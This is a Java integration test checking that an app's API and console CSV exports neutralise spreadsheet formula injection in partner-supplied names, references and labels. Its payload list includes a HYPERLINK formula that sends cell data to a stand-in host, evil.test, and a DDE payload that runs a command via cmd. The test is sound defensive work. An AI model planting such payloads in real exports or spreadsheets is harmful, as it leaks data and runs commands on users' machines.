package io.gratitude.sendlog;

import java.util.List;
import java.util.stream.Collectors;

import io.gratitude.Api;
import io.gratitude.IntegrationTest;
import io.gratitude.staff.StaffRole;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV formula injection: whatever partners send that reaches the send log's export
 * (contact references, names, date labels, sale references and descriptions, program
 * names) comes out of the API's and the console's CSV with no cell a spreadsheet would
 * run as a formula.
 */
class CsvFormulaTest extends IntegrationTest {

	private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click me\")",
			"@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3");

	private static final String FORMULA_STARTS = "=+-@\t\r\0";

	@Test
	void formulaShapedRefsNamesAndLabelsComeOutNeutralisedInTheApiAndConsoleExports() {
		CLOCK.set("2027-06-10T12:00:00Z");
		Api shop = enroll("UTC", "00:00", "00:00");
		assertThat(shop.post("/api/v1/programs", """
				{"key":"wedding","name":"%s","trigger":"DATE","dateKind":"CUSTOM","audience":"ANY",
				 "template":"client-anniversary","sendAt":"10:00"}""".formatted(json(FORMULAS.get(0)))).status())
			.isEqualTo(201);
		String contacts = FORMULAS.stream()
			.map((formula) -> """
					{"externalRef":"%1$s","email":"%2$s","firstName":"%1$s","lastName":"%1$s",
					 "significantDates":[{"kind":"CUSTOM","label":"%1$s","month":6,"day":12}]}"""
				.formatted(json(formula), uniqueEmail("formula")))
			.collect(Collectors.joining(",", "[", "]"));
		Api.Response batch = shop.post("/api/v1/contacts:batch", contacts);
		assertThat(batch.json().get("created").asInt()).as(batch.raw().body()).isEqualTo(FORMULAS.size());
		for (String formula : FORMULAS) {
			Api.Response sale = shop.post("/api/v1/sales", """
					{"externalRef":"%1$s","contactRef":"%1$s","amount":"24.90","currency":"EUR",
					 "occurredAt":"2027-06-10T12:00:00Z","description":"%1$s"}""".formatted(json(formula)));
			assertThat(sale.status()).as(sale.raw().body()).isEqualTo(201);
		}
		// A thank-you for each sale, and each custom date planned.
		eventually()
			.until(() -> shop.get("/api/v1/outreach?size=100").json().get("total").asInt() == 2 * FORMULAS.size());

		String api = shop.get("/api/v1/outreach.csv").raw().body();
		String console = console(this.partnerId, StaffRole.STAFF)
			.get("/console/partners/" + this.partnerId + "/outreach.csv")
			.raw()
			.body();

		assertThat(console).isEqualTo(api);
		List<List<String>> records = SendLogTest.parseCsv(api);
		assertThat(records).hasSize(1 + 2 * FORMULAS.size()).allSatisfy((record) -> assertThat(record).hasSize(11));
		for (List<String> record : records.subList(1, records.size())) {
			assertThat(record).noneMatch((cell) -> !cell.isEmpty() && FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0);
			// The text is all there, behind one quote; ids and counts are plain numbers.
			assertThat(record.get(2)).startsWith("'").isIn(FORMULAS.stream().map((formula) -> "'" + formula).toList());
			assertThat(record.get(3)).satisfiesAnyOf((occasion) -> assertThat(occasion).startsWith("sale:"),
					(occasion) -> assertThat(occasion).startsWith("custom:"));
			assertThat(record.get(0)).containsOnlyDigits();
			assertThat(record.get(9)).containsOnlyDigits();
		}
		assertThat(records.stream().map((record) -> record.get(3))).contains("sale:" + FORMULAS.get(0),
				"custom:" + FORMULAS.get(1) + "@2027-06-12");
	}

	private static String json(String text) {
		return text.replace("\\", "\\\\").replace("\"", "\\\"");
	}

}
